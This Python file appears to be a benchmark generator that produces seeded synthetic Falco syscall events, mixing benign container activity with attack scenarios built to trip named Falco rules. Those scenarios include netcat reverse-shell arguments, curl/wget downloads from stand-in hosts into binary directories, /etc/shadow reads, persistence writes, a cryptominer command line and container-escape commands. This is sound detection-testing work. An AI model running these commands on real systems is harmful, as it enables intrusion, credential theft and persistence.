"""Seeded syscall events shaped like ``shared/data/events``: flat dicts keyed by Falco field names.

Only exit events (``evt.dir`` ``<``) are produced, as a modern Falco driver delivers them, and an
absent field is left out rather than written as ``null`` (the engine treats both the same way).
Each event carries the fields a rule or an output of the upstream rules reads for its event
type: 25-44 of them, 38 on average, which puts a line at about 1 kB.

Benign activity comes from the fleet in ``gen_profiles.py``; a share of events instead comes from
one of the ``SCENARIOS`` below, each written to satisfy a named upstream rule.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from benchmarks.gen_profiles import (
    APPS,
    CLIENT_IPS,
    HOST_IP,
    HOST_PROGRAMS,
    SHIM,
    AppSpec,
    ProgramSpec,
)

Event = dict[str, object]

EPOCH_NS = 1_717_243_200_000_000_000  # 2024-06-01T12:00:00Z, so timestamps look like a live capture
TTY_PTS0 = 34816  # major 136, minor 0: /dev/pts/0

# Docker's default capability set: no CAP_SYS_ADMIN, which is what makes unshare in a container suspect.
DEFAULT_CAPS = (
    "CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP "
    "CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP"
)


@dataclass(frozen=True, slots=True)
class Proc:
    """A running process: the fields every one of its events repeats, and what it does."""

    base: dict[str, object]
    spec: ProgramSpec
    ip: str
    in_container: bool
    privileged: bool


def _dirname(path: str) -> str:
    head = path.rsplit("/", 1)[0]
    return head or "/"


def _basename(path: str) -> str:
    return path.rsplit("/", 1)[-1]


def proc_fields(
    *,
    name: str,
    exepath: str,
    args: str,
    pid: int,
    ppid: int,
    vpid: int,
    ancestors: tuple[str, ...],
    pcmdline: str | None,
    user: str,
    uid: int,
    cwd: str,
    tty: int,
    upper_layer: bool = False,
) -> dict[str, object]:
    """The proc.*/thread.*/user.* part of an event; ``ancestors`` starts with the parent."""
    cmdline = f"{name} {args}" if args else name
    fields: dict[str, object] = {
        "proc.pid": pid,
        "proc.ppid": ppid,
        "proc.vpid": vpid,
        "proc.name": name,
        "proc.exepath": exepath,
        "proc.cmdline": cmdline,
        "proc.args": args,
        "proc.tty": tty,
        "proc.cwd": cwd if cwd.endswith("/") else cwd + "/",
    }
    if ancestors:
        fields["proc.pname"] = ancestors[0]
        if pcmdline is not None:
            fields["proc.pcmdline"] = pcmdline
    for depth, ancestor in enumerate(ancestors[1:4], start=2):
        fields[f"proc.aname[{depth}]"] = ancestor
    if upper_layer:
        fields["proc.is_exe_upper_layer"] = True
    fields["user.uid"] = uid
    fields["user.name"] = user
    fields["user.loginuid"] = -1
    return fields


class SyscallGenerator:
    """Deterministic stream of syscall events for one seed; ``alert_share`` of them from SCENARIOS."""

    def __init__(self, seed: int, alert_share: float = 0.01) -> None:
        if not 0.0 <= alert_share <= 1.0:
            raise ValueError(f"alert share must lie in [0, 1], got {alert_share}")
        self.rng = random.Random(seed)
        self.alert_share = alert_share
        self._num = 0
        self._time = EPOCH_NS + self.rng.randrange(10**12)
        self._next_pid = 2000 + self.rng.randrange(1000)
        self.procs: list[Proc] = []
        self.container_procs: list[Proc] = []
        self.host_procs: list[Proc] = []
        self._build_fleet()
        self._readers = [p for p in self.procs if p.spec.reads]
        self._writers = [p for p in self.procs if p.spec.writes]
        self._clients = [p for p in self.procs if p.spec.connects]
        self._servers = [p for p in self.procs if p.spec.listens]
        self._spawners = [p for p in self.procs if p.spec.execs]
        self._runc = self._make_runc()
        self._sshd = next(p for p in self.host_procs if p.spec.name == "sshd")
        benign: list[tuple[Callable[[], Event], float]] = [
            (lambda: self._open_read("openat"), 24.0),
            (lambda: self._open_read("open"), 3.0),
            (lambda: self._open_read("openat2"), 2.0),
            (self._read, 22.0),
            (self._open_write, 6.0),
            (self._connect, 8.0),
            (self._accept, 6.0),
            (self._exec, 5.0),
            (self._clone, 4.0),
            (self._host_mount, 0.4),
            (self._host_umount, 0.4),
            (self._host_setns, 0.6),
            (self._host_unshare, 0.3),
        ]
        self._benign = [fn for fn, _ in benign]
        self._benign_weights = _cumulative([w for _, w in benign])
        self._scenarios = [getattr(self, f"_alert_{name}") for name in SCENARIOS]

    # ---- fleet ---------------------------------------------------------------------------------

    def _pid(self) -> int:
        self._next_pid += 1 + self.rng.randrange(7)
        return self._next_pid

    def _hex(self, nbytes: int) -> str:
        return self.rng.randbytes(nbytes).hex()

    def _build_fleet(self) -> None:
        for app in APPS:
            for _ in range(app.replicas):
                self._add_pod(app)
        for spec in HOST_PROGRAMS:
            pid = self._pid()
            base = proc_fields(
                name=spec.name, exepath=spec.exepath, args=spec.args, pid=pid, ppid=1, vpid=pid,
                ancestors=("systemd",), pcmdline="/sbin/init", user=spec.user, uid=spec.uid,
                cwd=spec.cwd, tty=0,
            )
            base.update({"container.id": "host", "container.name": "host"})
            proc = Proc(base, spec, HOST_IP, in_container=False, privileged=False)
            self.procs.append(proc)
            self.host_procs.append(proc)

    def _add_pod(self, app: AppSpec) -> None:
        rng = self.rng
        suffix = "".join(rng.choice("bcdfghjklmnpqrstvwxz2456789") for _ in range(5))
        pod = f"{app.deployment}-{self._hex(5)[:9]}-{suffix}"
        container = {
            "container.id": self._hex(6),
            "container.name": app.deployment.split("-")[0],
            "container.image.repository": app.repository,
            "container.image.tag": app.tag,
            "container.privileged": app.privileged,
            "k8s.ns.name": app.namespace,
            "k8s.pod.name": pod,
        }
        ip = f"10.244.{rng.randrange(1, 4)}.{rng.randrange(2, 250)}"
        spec = app.program
        shim_pid = self._pid()
        main_pid = self._pid()
        main = proc_fields(
            name=spec.name, exepath=spec.exepath, args=spec.args, pid=main_pid, ppid=shim_pid, vpid=1,
            ancestors=(SHIM, "systemd"), pcmdline=f"{SHIM} -namespace k8s.io -id {container['container.id']}",
            user=spec.user, uid=spec.uid, cwd=spec.cwd, tty=0,
        )
        main.update(container)
        procs = [Proc(main, spec, ip, in_container=True, privileged=app.privileged)]
        for worker in range(spec.workers):
            wpid = self._pid()
            fields = proc_fields(
                name=spec.name, exepath=spec.exepath, args=spec.args, pid=wpid, ppid=main_pid,
                vpid=7 + worker, ancestors=(spec.name, SHIM, "systemd"), pcmdline=str(main["proc.cmdline"]),
                user=spec.user, uid=spec.uid, cwd=spec.cwd, tty=0,
            )
            fields.update(container)
            procs.append(Proc(fields, spec, ip, in_container=True, privileged=app.privileged))
        self.procs.extend(procs)
        self.container_procs.extend(procs)

    def _make_runc(self) -> Proc:
        spec = ProgramSpec("runc", "/usr/bin/runc", "--root /run/containerd/runc/k8s.io --log-format json init", "root", 0, "/", reads=())
        pid = self._pid()
        base = proc_fields(
            name="runc:[2:INIT]", exepath=spec.exepath, args=spec.args, pid=pid, ppid=pid - 3, vpid=1,
            ancestors=("runc", SHIM, "systemd"), pcmdline="runc --root /run/containerd/runc/k8s.io create",
            user="root", uid=0, cwd="/", tty=0,
        )
        base.update({"container.id": "host", "container.name": "host"})
        return Proc(base, spec, HOST_IP, in_container=False, privileged=True)

    # ---- event skeletons -----------------------------------------------------------------------

    def _event(self, proc: Proc, evt_type: str, res: int = 0) -> Event:
        self._num += 1
        self._time += 1 + int(self.rng.expovariate(1 / 25_000))
        event: Event = {
            "evt.num": self._num,
            "evt.time": self._time,
            "evt.type": evt_type,
            "evt.dir": "<",
        }
        event.update(proc.base)
        failed = res < 0
        event["evt.res"] = _ERRNO.get(res, "SUCCESS") if failed else "SUCCESS"
        event["evt.rawres"] = res
        event["evt.failed"] = failed
        return event

    def _file_open(self, proc: Proc, evt_type: str, path: str, *, write: bool, fail: bool = False) -> Event:
        fd = -2 if fail else 3 + self.rng.randrange(60)
        event = self._event(proc, evt_type, fd)
        if fail:
            event["evt.res"] = "ENOENT"
        flags = "O_WRONLY|O_CREAT|O_APPEND|O_CLOEXEC" if write else "O_RDONLY|O_CLOEXEC"
        event.update({
            "evt.arg.name": path,
            "evt.arg.flags": flags,
            "evt.is_open_read": not write,
            "evt.is_open_write": write,
            "fd.num": -1 if fail else fd,
            "fd.type": "file",
            "fd.typechar": "f",
            "fd.name": path,
            "fd.directory": _dirname(path),
            "fd.filename": _basename(path),
        })
        return event

    def _socket(self, event: Event, *, client: tuple[str, int], server: tuple[str, int], proto: str, local_is_client: bool) -> Event:
        cip, cport = client
        sip, sport = server
        local, remote = (client, server) if local_is_client else (server, client)
        event.update({
            "fd.num": 4 + self.rng.randrange(200),
            "fd.type": "ipv4",
            "fd.typechar": "4",
            "fd.name": f"{cip}:{cport}->{sip}:{sport}",
            "fd.l4proto": proto,
            "fd.sockfamily": "ip",
            "fd.cip": cip,
            "fd.sip": sip,
            "fd.cport": cport,
            "fd.sport": sport,
            "fd.lport": local[1],
            "fd.rport": remote[1],
        })
        return event

    # ---- benign activity -----------------------------------------------------------------------

    def _open_read(self, evt_type: str) -> Event:
        proc = self.rng.choice(self._readers)
        path = self.rng.choice(proc.spec.reads)
        if self.rng.random() < 0.06:
            # Module and config probing that misses: frequent in interpreters, and never suspicious.
            return self._file_open(proc, evt_type, _dirname(path) + "/__pycache__/" + _basename(path) + ".pyc", write=False, fail=True)
        return self._file_open(proc, evt_type, path, write=False)

    def _open_write(self) -> Event:
        proc = self.rng.choice(self._writers)
        return self._file_open(proc, "openat", self.rng.choice(proc.spec.writes), write=True)

    def _read(self) -> Event:
        rng = self.rng
        if rng.random() < 0.6:
            proc = rng.choice(self._readers)
            path = rng.choice(proc.spec.reads)
            size = rng.choice((512, 4096, 8192, 65536))
            event = self._event(proc, rng.choice(("read", "read", "pread64", "readv")), size)
            event.update({
                "evt.is_io_read": True,
                "evt.buflen": size,
                "fd.num": 3 + rng.randrange(60),
                "fd.type": "file",
                "fd.typechar": "f",
                "fd.name": path,
                "fd.directory": _dirname(path),
                "fd.filename": _basename(path),
            })
            return event
        proc = rng.choice(self._servers)
        size = rng.randrange(64, 16384)
        event = self._event(proc, rng.choice(("read", "recvfrom", "recvmsg")), size)
        event.update({"evt.is_io_read": True, "evt.buflen": size})
        client = (rng.choice(CLIENT_IPS), 32768 + rng.randrange(28000))
        return self._socket(event, client=client, server=(proc.ip, rng.choice(proc.spec.listens)), proto="tcp", local_is_client=False)

    def _connect(self) -> Event:
        rng = self.rng
        proc = rng.choice(self._clients)
        sip, sport, proto = rng.choice(proc.spec.connects)
        res = -115 if proto == "tcp" and rng.random() < 0.3 else 0
        event = self._event(proc, "connect", res)
        return self._socket(event, client=(proc.ip, 32768 + rng.randrange(28000)), server=(sip, sport), proto=proto, local_is_client=True)

    def _accept(self) -> Event:
        rng = self.rng
        proc = rng.choice(self._servers)
        fd = 5 + rng.randrange(500)
        event = self._event(proc, rng.choice(("accept", "accept4")), fd)
        client = (rng.choice(CLIENT_IPS), 32768 + rng.randrange(28000))
        event = self._socket(event, client=client, server=(proc.ip, rng.choice(proc.spec.listens)), proto="tcp", local_is_client=False)
        event["fd.num"] = fd
        event["fd.is_server"] = True
        return event

    def _child(self, parent: Proc, name: str, exepath: str, args: str, *, tty: int = 0, user: str | None = None,
               uid: int | None = None, upper_layer: bool = False, pname: str | None = None) -> Proc:
        """A process ``parent`` has just exec'd: its own identity, the parent's container."""
        base = parent.base
        pid = self._pid()
        if pname:
            ancestors: tuple[str, ...] = (pname, SHIM, "systemd")
        else:
            ancestors = (str(base["proc.name"]), str(base.get("proc.pname", "systemd")),
                         str(base.get("proc.aname[2]", "systemd")), str(base.get("proc.aname[3]", "systemd")))
        fields = proc_fields(
            name=name, exepath=exepath, args=args, pid=pid, ppid=_int(base["proc.pid"]),
            vpid=pid if not parent.in_container else 20 + self.rng.randrange(400),
            ancestors=ancestors, pcmdline="runc init" if pname else str(base["proc.cmdline"]),
            user=user if user is not None else str(base["user.name"]),
            uid=uid if uid is not None else _int(base["user.uid"]),
            cwd=str(base["proc.cwd"]), tty=tty, upper_layer=upper_layer,
        )
        for key in _CONTAINER_KEYS:
            if key in base:
                fields[key] = base[key]
        return Proc(fields, parent.spec, parent.ip, parent.in_container, parent.privileged)

    def _exec_event(self, child: Proc, flags: str = "EXE_LOWER_LAYER", evt_type: str = "execve") -> Event:
        event = self._event(child, evt_type, 0)
        event["evt.arg.flags"] = flags
        return event

    def _exec(self) -> Event:
        rng = self.rng
        parent = rng.choice(self._spawners)
        name, exepath, args = rng.choice(parent.spec.execs)
        child = self._child(parent, name, exepath, args, pname="runc" if parent.in_container else None)
        return self._exec_event(child, evt_type="execveat" if rng.random() < 0.04 else "execve")

    def _clone(self) -> Event:
        rng = self.rng
        proc = rng.choice(self.procs)
        child_pid = self._pid()
        evt_type = "fork" if rng.random() < 0.15 else "clone"
        event = self._event(proc, evt_type, child_pid)
        event["evt.arg.res"] = str(child_pid)
        event["evt.arg.flags"] = (
            "CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID" if evt_type == "fork"
            else "CLONE_FILES|CLONE_FS|CLONE_PARENT_SETTID|CLONE_SIGHAND|CLONE_SYSVSEM|CLONE_THREAD|CLONE_VM"
        )
        return event

    def _volume_dir(self) -> str:
        return f"/var/lib/kubelet/pods/{self._hex(4)}-{self._hex(2)}/volumes/kubernetes.io~projected/kube-api-access-{self._hex(3)[:5]}"

    def _host_mount(self) -> Event:
        kubelet = self.host_procs[0]
        event = self._event(kubelet, "mount", 0)
        event.update({"evt.arg.dev": "tmpfs", "evt.arg.dir": self._volume_dir(), "evt.arg.type": "tmpfs", "evt.arg.flags": "0"})
        return event

    def _host_umount(self) -> Event:
        kubelet = self.host_procs[0]
        event = self._event(kubelet, "umount2", 0)
        event.update({"evt.arg.name": self._volume_dir(), "evt.arg.flags": "0"})
        return event

    def _host_setns(self) -> Event:
        event = self._event(self._runc, "setns", 0)
        event.update({"evt.arg.fd": str(5 + self.rng.randrange(8)), "evt.arg.nstype": self.rng.choice(_NAMESPACES)})
        return event

    def _host_unshare(self) -> Event:
        event = self._event(self._runc, "unshare", 0)
        event["evt.arg.flags"] = "CLONE_NEWNS|CLONE_NEWUTS|CLONE_NEWIPC|CLONE_NEWPID|CLONE_NEWNET"
        return event

    # ---- alerting activity: each method satisfies the upstream rule named in its docstring ---------

    def _container_root(self, *, privileged: bool = False) -> Proc:
        """A root shell process inside some container, the usual starting point of an attack."""
        pool = [p for p in self.container_procs if p.privileged] if privileged else self.container_procs
        parent = self.rng.choice(pool)
        return self._child(parent, "bash", "/bin/bash", "", user="root", uid=0, tty=TTY_PTS0)

    def _alert_terminal_shell(self) -> Event:
        """Terminal shell in container (falco_rules.yaml)."""
        rng = self.rng
        parent = rng.choice(self.container_procs)
        shell, path = rng.choice((("bash", "/bin/bash"), ("sh", "/bin/sh"), ("ash", "/bin/ash")))
        # The entrypoint of a `kubectl exec` session: the runtime, not the app, is the parent.
        entry = rng.choice(("runc:[1:CHILD]", SHIM, "runc"))
        child = self._child(parent, shell, path, rng.choice(("", "-i", "-l")), tty=TTY_PTS0, user="root", uid=0, pname=entry)
        return self._exec_event(child)

    def _alert_read_shadow(self) -> Event:
        """Read sensitive file untrusted (falco_rules.yaml)."""
        rng = self.rng
        shell = self._container_root() if rng.random() < 0.7 else self._child(self._sshd, "bash", "/bin/bash", "", tty=TTY_PTS0)
        name, args = rng.choice((("cat", "/etc/shadow"), ("python3", "-c print(open('/etc/shadow').read())"), ("grep", "root /etc/shadow")))
        reader = self._child(shell, name, f"/usr/bin/{name}", args, tty=TTY_PTS0)
        path = rng.choice(("/etc/shadow", "/etc/shadow", "/etc/sudoers", "/etc/pam.d/common-auth"))
        return self._file_open(reader, "openat", path, write=False)

    def _alert_write_etc(self) -> Event:
        """Write below etc (falco-sandbox_rules.yaml)."""
        rng = self.rng
        writer = self._child(self._container_root(), "python3", "/usr/bin/python3", "-c open('/etc/ld.so.preload','w')", tty=TTY_PTS0)
        path = rng.choice(("/etc/ld.so.preload", "/etc/cron.d/.sysupdate", "/etc/systemd/system/kworker.service", "/etc/profile.d/proxy.sh"))
        event = self._file_open(writer, "openat", path, write=True)
        event["evt.arg.flags"] = "O_WRONLY|O_CREAT|O_TRUNC"
        return event

    def _alert_write_bin(self) -> Event:
        """Write below binary dir (falco-sandbox_rules.yaml)."""
        rng = self.rng
        name, args = rng.choice((("curl", "-fsSL http://203.0.113.50/k -o /usr/bin/kubelet-agent"), ("wget", "-qO /usr/sbin/sshd-helper http://203.0.113.50/s")))
        writer = self._child(self._container_root(), name, f"/usr/bin/{name}", args, tty=TTY_PTS0)
        path = rng.choice(("/usr/bin/kubelet-agent", "/usr/sbin/sshd-helper", "/bin/.ps", "/usr/bin/top"))
        event = self._file_open(writer, "openat", path, write=True)
        event["evt.arg.flags"] = "O_WRONLY|O_CREAT|O_TRUNC"
        return event

    def _alert_mount_in_privileged(self) -> Event:
        """Mount Launched in Privileged Container (falco-incubating_rules.yaml)."""
        args = self.rng.choice(("-t ext4 /dev/nvme0n1p1 /mnt/host", "/dev/sda1 /mnt", "-o bind /proc/1/root /tmp/host"))
        child = self._child(self._container_root(privileged=True), "mount", "/usr/bin/mount", args, tty=TTY_PTS0)
        return self._exec_event(child)

    def _alert_miner(self) -> Event:
        """Detect crypto miners using the Stratum protocol, Known Cryptominer Process Executed (sandbox)."""
        rng = self.rng
        pool = rng.choice(("stratum+tcp://pool.supportxmr.com:3333", "stratum+ssl://xmr.2miners.com:12222", "stratum+tcp://198.51.100.23:4444"))
        args = f"-o {pool} -u 4AdUndXHHZ9pfQj27iMAjAr6Qx9GCmTDK5jKiv6Zjk8s -p x --donate-level 1 --cpu-max-threads-hint 90"
        child = self._child(self._container_root(), "xmrig", "/tmp/.x/xmrig", args, upper_layer=True)
        return self._exec_event(child, flags="EXE_WRITABLE|EXE_UPPER_LAYER")

    def _alert_nsenter(self) -> Event:
        """Change thread namespace (falco-incubating_rules.yaml): setns by nsenter inside a container."""
        child = self._child(self._container_root(privileged=True), "nsenter", "/usr/bin/nsenter",
                            "--target 1 --mount --uts --ipc --net --pid -- bash", tty=TTY_PTS0)
        event = self._event(child, "setns", 0)
        event.update({"evt.arg.fd": "3", "evt.arg.nstype": self.rng.choice(_NAMESPACES)})
        return event

    def _alert_docker_sock(self) -> Event:
        """Kubernetes Client Tool Launched in Container (falco-sandbox_rules.yaml), via the host's docker.sock."""
        args = self.rng.choice((
            "-H unix:///var/run/docker.sock run --rm -it --privileged --pid=host alpine nsenter -t 1 -m -u -n -i sh",
            "-H unix:///var/run/docker.sock ps -a",
        ))
        child = self._child(self._container_root(), "docker", "/usr/bin/docker", args, tty=TTY_PTS0)
        return self._exec_event(child)

    def _alert_package_manager(self) -> Event:
        """Launch Package Management Process in Container (falco-incubating_rules.yaml)."""
        name, path, args = self.rng.choice((
            ("apt-get", "/usr/bin/apt-get", "install -y netcat-openbsd"),
            ("apk", "/sbin/apk", "add --no-cache socat"),
            ("pip", "/usr/local/bin/pip", "install requests-toolbelt"),
            ("yum", "/usr/bin/yum", "install -y nmap"),
        ))
        child = self._child(self._container_root(), name, path, args, tty=TTY_PTS0)
        return self._exec_event(child)

    def _alert_unshare(self) -> Event:
        """Change namespace privileges via unshare (falco-incubating_rules.yaml)."""
        child = self._child(self._container_root(), "unshare", "/usr/bin/unshare", "-Urm bash", tty=TTY_PTS0)
        event = self._event(child, "unshare", 0)
        event["evt.arg.flags"] = "CLONE_NEWNS|CLONE_NEWUSER"
        event["thread.cap_permitted"] = DEFAULT_CAPS
        return event

    def _alert_netcat(self) -> Event:
        """Netcat Remote Code Execution in Container (falco_rules.yaml)."""
        args = self.rng.choice(("-e /bin/sh 203.0.113.7 4444", "-c 'sh -i' 198.51.100.9 9001"))
        child = self._child(self._container_root(), "nc", "/usr/bin/nc", args, tty=TTY_PTS0)
        return self._exec_event(child)

    # ---- stream ----------------------------------------------------------------------------------

    def labeled(self, count: int) -> Iterator[tuple[str, Event]]:
        """``count`` events, each with the scenario that made it (``benign`` for ordinary activity)."""
        rng = self.rng
        share = self.alert_share
        for _ in range(count):
            if share and rng.random() < share:
                index = rng.randrange(len(SCENARIOS))
                yield SCENARIOS[index], self._scenarios[index]()
            else:
                yield "benign", self._benign[_pick(self._benign_weights, rng.random())]()

    def events(self, count: int) -> Iterator[Event]:
        for _, event in self.labeled(count):
            yield event


SCENARIOS: tuple[str, ...] = (
    "terminal_shell",
    "read_shadow",
    "write_etc",
    "write_bin",
    "mount_in_privileged",
    "miner",
    "nsenter",
    "docker_sock",
    "package_manager",
    "unshare",
    "netcat",
)

_ERRNO = {-2: "ENOENT", -13: "EACCES", -115: "EINPROGRESS"}
_NAMESPACES = ("CLONE_NEWNET", "CLONE_NEWNS", "CLONE_NEWPID", "CLONE_NEWUTS", "CLONE_NEWIPC")
_CONTAINER_KEYS = (
    "container.id", "container.name", "container.image.repository", "container.image.tag",
    "container.privileged", "k8s.ns.name", "k8s.pod.name",
)


def _int(value: object) -> int:
    return value if isinstance(value, int) else 0


def _cumulative(weights: list[float]) -> list[float]:
    total = sum(weights)
    running = 0.0
    out = []
    for weight in weights:
        running += weight / total
        out.append(running)
    out[-1] = 1.0
    return out


def _pick(cumulative: list[float], point: float) -> int:
    for index, edge in enumerate(cumulative):
        if point < edge:
            return index
    return len(cumulative) - 1
